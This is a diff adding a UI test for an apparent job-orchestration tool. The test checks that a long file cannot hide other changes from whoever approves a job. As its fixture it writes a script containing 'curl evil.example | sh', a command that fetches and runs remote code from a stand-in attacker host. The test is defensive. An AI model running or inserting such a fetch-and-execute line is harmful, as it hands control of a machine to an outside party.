@@ -1,6 +1,7 @@
 """Text of others in every field that reaches a page: it is shown as text, runs nothing, and asks nobody."""
 
 import json
+import sys
 from typing import Any
 from urllib.parse import quote
 
@@ -143,6 +144,47 @@ def test_processes_are_shown_with_what_they_use_and_their_words_as_text(tab: Tab
     tab.picture("processes")
     unharmed(tab)
     tab.daemon.ask("POST", f"/api/v1/plans/{plan}/cancel", headers, b"{}")
+
+
+def test_a_long_file_hides_no_other_change_from_whoever_approves(tab: Tab) -> None:
+    program = (
+        "import os; open('aaa.ts', 'w').write('y' * 5_000_000);"
+        "open('evil.sh', 'w').write('curl evil.example | sh\\n');"
+        "os.chmod('evil.sh', 0o755); os.symlink('evil.sh', 'z.txt');"
+        "[open(f'm{n:04}', 'w').write('x' * 1500 + '\\n') for n in range(2700)]"
+    )
+    work = {"executable": sys.executable, "args": ["-c", program]}
+    body = {"name": "Long", "target": "long", "jobs": [{"id": "a", "heal": False, "approve": True, "work": work}]}
+    headers = {**tab.daemon.bearer, "Content-Type": "application/json"}
+    plan = str(tab.daemon.ask("POST", "/api/v1/plans", headers, json.dumps(body).encode()).json["plan"])
+    until(lambda: tab.waiting() != [], seconds=60)
+    tab.job(plan, "a", "changes")
+
+    evil = tab.page.locator(".file", has_text="evil.sh").first
+    expect(evil).to_contain_text("executable")
+    expect(tab.page.locator(".file", has_text="aaa.ts")).to_contain_text("in part")
+    banner = tab.page.locator(".banner.t-bad")
+    expect(banner).to_contain_text("1 file is shown only in part")
+    expect(banner).to_contain_text("m2699 +1 −0")
+    expect(tab.page.locator(".file", has_text="z.txt")).to_contain_text("link")
+    expect(banner).to_contain_text(f"orchard diff a --plan {plan} -- PATH")
+    expect(tab.page.locator("main")).to_contain_text("2,703 files +2703 −0")
+    evil.locator("button").first.click()
+    expect(evil).to_contain_text("curl evil.example | sh")
+    tab.picture("left-out")
+
+    for place in ("job", "inbox"):
+        if place == "inbox":
+            tab.go("/inbox")
+            expect(tab.page.locator("h1")).to_have_text("Inbox")
+        tab.press("Approve")
+        expect(tab.page.get_by_role("dialog")).to_contain_text("though you cannot see all of it")
+        tab.page.keyboard.press("Escape")
+        expect(tab.page.get_by_role("dialog")).to_have_count(0)
+    assert [one["kind"] for one in tab.waiting()] == ["approval"]
+    tab.press("Approve")
+    tab.press("Approve unseen")
+    until(lambda: tab.status(plan)["plan"]["status"] == "succeeded", seconds=60)
 
 
 def test_hostile_addresses_lead_nowhere(tab: Tab) -> None:
